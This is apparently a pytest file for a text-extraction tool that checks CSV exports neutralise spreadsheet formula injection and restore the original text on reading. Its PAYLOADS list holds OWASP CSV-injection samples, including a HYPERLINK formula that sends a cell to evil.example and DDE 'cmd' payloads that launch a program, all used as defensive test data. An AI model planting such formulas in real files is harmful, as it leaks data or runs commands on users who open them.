"""CSV output for spreadsheets: formula cells neutralised (OWASP CSV injection), raw on request."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pa_csv
import pyarrow.parquet as pq
import pytest
import spacy
from hypothesis import given, settings
from hypothesis import strategies as st
from spacy.language import Language
from typer.testing import CliRunner

from extract.cli import app
from extract.pipeline import NEWS_COMPONENTS
from extract.run import run
from extract.settings import RunSettings
from extract.tables.spreadsheet import (
    needs_neutralising,
    neutralise,
    neutralise_table,
    restore,
    restore_table,
)
from extract.tables.writers import OutputFormat, _write_csv

runner = CliRunner()

# OWASP "CSV Injection" examples and the cases.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
    "-10+20",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
    "'=1+1",
]
PERSONS = ["@Angela Merkel", "=Bob Smith", "+Carl Jones", "-Dora Lee"]


@pytest.mark.parametrize(
    "cell,expected",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-10+20", "'-10+20"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\tplain", "'\tplain"),
        ("\r=1+1", "'\r=1+1"),
        ("\x00x", "'\x00x"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("  =1+1", "'  =1+1"),
        ("\n-1+1", "'\n-1+1"),
        ("\u3000@x", "'\u3000@x"),
        ("'quoted", "''quoted"),
        ("-10", "-10"),
        ("-0.5", "-0.5"),
        ("-1e5", "'-1e5"),
        ("-", "'-"),
        ("--", "'--"),
        ("Angela Merkel", "Angela Merkel"),
        (" leading space", " leading space"),
        ("a=b", "a=b"),
        ("", ""),
        ("\nline", "\nline"),
    ],
)
def test_spreadsheet_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected
    assert needs_neutralising(cell) is (expected != cell)
    assert restore(expected) == cell


@given(st.text())
def test_spreadsheet_restore_undoes_neutralise(cell: str) -> None:
    assert restore(neutralise(cell)) == cell
    assert not needs_neutralising(cell) or neutralise(cell).startswith("'")


def _read_csv_back(data: bytes) -> pa.Table:
    options = pa_csv.ConvertOptions(
        column_types={"text": pa.string(), "number": pa.int64()},
        strings_can_be_null=True,
        quoted_strings_can_be_null=False,
    )
    parse = pa_csv.ParseOptions(newlines_in_values=True)
    return pa_csv.read_csv(io.BytesIO(data), parse_options=parse, convert_options=options)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(st.one_of(st.none(), st.text()), st.integers(-(2**62), 2**62)),
        min_size=1,
        max_size=8,
    )
)
def test_spreadsheet_csv_file_round_trip(rows: list[tuple[str | None, int]]) -> None:
    """Neutralised output read back and restored is the original; raw output reads back as is;
    numbers are never prefixed."""
    table = pa.table({"text": [text for text, _ in rows], "number": [number for _, number in rows]})
    for raw in (False, True):
        buffer = io.BytesIO()
        _write_csv(table, buffer, raw=raw)  # type: ignore[arg-type]
        read = _read_csv_back(buffer.getvalue())
        assert read.column("number").to_pylist() == [number for _, number in rows]
        texts = read.column("text").to_pylist()
        expected = [text for text, _ in rows]
        if raw:
            assert texts == expected
        else:
            assert texts == [None if t is None else neutralise(t) for t in expected]
            assert restore_table(read).column("text").to_pylist() == expected


def test_spreadsheet_tables_touch_only_text_columns() -> None:
    table = pa.table({"text": ["-5+1", "-5"], "number": [-5, -6], "ratio": [-0.5, 1.0]})
    neutral = neutralise_table(table)
    assert neutral.to_pydict() == {
        "text": ["'-5+1", "-5"],
        "number": [-5, -6],
        "ratio": [-0.5, 1.0],
    }
    assert restore_table(neutral).equals(table)


def _pipeline() -> Language:
    nlp = spacy.blank("en")
    nlp.add_pipe("sentencizer")
    ruler = nlp.add_pipe("entity_ruler")
    ruler.add_patterns([{"label": "PERSON", "pattern": name} for name in PERSONS])  # type: ignore[attr-defined]
    for name in NEWS_COMPONENTS:
        if name != "news_facts":  # facts needs a dependency parse
            nlp.add_pipe(name)
    return nlp


# Ids are stripped of surrounding whitespace on reading (ingest/fields.py): a suffix keeps
# them unique; titles and sources are kept as written.
IDS = [f"{payload} {n}".strip() for n, payload in enumerate(PAYLOADS)]
RECORDS = [
    {"id": f"{payload} {n}", "title": payload, "source": payload, "text": f"Report {n} on Vietnam."}
    for n, payload in enumerate(PAYLOADS)
] + [{"id": "people", "text": "Yesterday " + " met ".join(PERSONS) + " in Vietnam."}]


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("csv-injection")
    source = base / "in.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in RECORDS), encoding="utf-8")
    nlp = _pipeline()
    outs = {}
    for name, fmt, raw in (
        ("parquet", OutputFormat.PARQUET, False),
        ("csv", OutputFormat.CSV, False),
        ("csv-raw", OutputFormat.CSV, True),
    ):
        outs[name] = base / name
        run([source], outs[name], nlp, RunSettings(model="tiny"), fmt=fmt, csv_raw=raw)
    return outs


def _csv_rows(out: Path, table: str) -> list[dict[str, str]]:
    import csv

    with (out / table / "part-000000.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_spreadsheet_payloads_in_documents(outputs: dict[str, Path]) -> None:
    documents = pq.read_table(outputs["parquet"] / "documents").to_pylist()
    payload_rows = [row for row in documents if row["doc_id"] != "people"]
    assert [(r["doc_id"], r["title"], r["source"]) for r in payload_rows] == [
        (i, p, p) for i, p in zip(IDS, PAYLOADS, strict=True)
    ]
    csv_rows = [row for row in _csv_rows(outputs["csv"], "documents") if row["doc_id"] != "people"]
    assert [(r["doc_id"], r["title"], r["source"]) for r in csv_rows] == [
        ("'" + i, "'" + p, "'" + p) for i, p in zip(IDS, PAYLOADS, strict=True)
    ]
    raw_rows = [r for r in _csv_rows(outputs["csv-raw"], "documents") if r["doc_id"] != "people"]
    assert [(r["doc_id"], r["title"], r["source"]) for r in raw_rows] == [
        (i, p, p) for i, p in zip(IDS, PAYLOADS, strict=True)
    ]
    # numbers stay numbers: n_chars is never prefixed
    assert [r["n_chars"] for r in csv_rows] == [str(len(r["text"])) for r in RECORDS[:-1]]


def test_spreadsheet_payloads_in_person_names(outputs: dict[str, Path]) -> None:
    persons = pq.read_table(outputs["parquet"] / "persons").to_pylist()
    assert [(r["name"], r["surface_name"], r["text"]) for r in persons] == [
        (p, p, p) for p in PERSONS
    ]
    assert [
        (r["name"], r["surface_name"], r["text"]) for r in _csv_rows(outputs["csv"], "persons")
    ] == [("'" + p, "'" + p, "'" + p) for p in PERSONS]
    # the people summary reads persons back from CSV: original names, neutralised once
    assert sorted(r["name"] for r in _csv_rows(outputs["csv"], "people")) == sorted(
        "'" + p for p in PERSONS
    )
    assert sorted(r["name"] for r in _csv_rows(outputs["csv-raw"], "people")) == sorted(PERSONS)


@pytest.mark.parametrize("name", ["parquet", "csv", "csv-raw"])
def test_spreadsheet_query_shows_original_text(outputs: dict[str, Path], name: str) -> None:
    from extract.query import query

    _, rows = query(outputs[name], "SELECT doc_id, title FROM documents")
    assert sorted(rows, key=str) == sorted(
        [*zip(IDS, PAYLOADS, strict=True), ("people", None)], key=str
    )


def test_spreadsheet_query_csv_output_is_neutralised(outputs: dict[str, Path]) -> None:
    sql = "SELECT title, -3 AS n FROM documents WHERE title IN ('=1+2', '-10+20') ORDER BY 1"
    result = runner.invoke(app, ["query", str(outputs["parquet"]), sql, "--csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout == "title,n\n'-10+20,-3\n'=1+2,-3\n"
    raw = runner.invoke(app, ["query", str(outputs["parquet"]), sql, "--csv", "--csv-raw"])
    assert raw.stdout == "title,n\n-10+20,-3\n=1+2,-3\n"


@pytest.mark.parametrize("name", ["parquet", "csv", "csv-raw"])
def test_spreadsheet_evaluation_reads_original_names(outputs: dict[str, Path], name: str) -> None:
    from extract.evaluate.predictions import read_run_tables

    found, notes = read_run_tables(outputs[name], ["persons"], ["people"])
    assert notes == []
    assert [row["name"] for row in found["persons"]] == PERSONS


@pytest.mark.parametrize("extra,title", [([], "'=1+2"), (["--csv-raw"], "=1+2")])
def test_spreadsheet_cli_run_csv_raw(tmp_path: Path, extra: list[str], title: str) -> None:
    source = tmp_path / "in.jsonl"
    source.write_text(json.dumps({"id": "d1", "title": "=1+2", "text": "Hello."}) + "\n")
    out = tmp_path / "out"
    args = ["run", str(source), "--out", str(out), "--format", "csv", "--workers", "1"]
    result = runner.invoke(app, args + extra)
    assert result.exit_code == 0, result.output
    assert [row["title"] for row in _csv_rows(out, "documents")] == [title]
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["options"]["csv_raw"] is bool(extra)


@pytest.mark.parametrize("name", ["parquet", "csv", "csv-raw"])
def test_spreadsheet_read_arrow_tables_gives_original_text(
    outputs: dict[str, Path], name: str
) -> None:
    from extract.api import read_arrow_tables

    tables = read_arrow_tables(outputs[name])
    titles = [t for t in tables["documents"].column("title").to_pylist() if t is not None]
    assert sorted(titles) == sorted(PAYLOADS)
    assert tables["persons"].column("name").to_pylist() == PERSONS
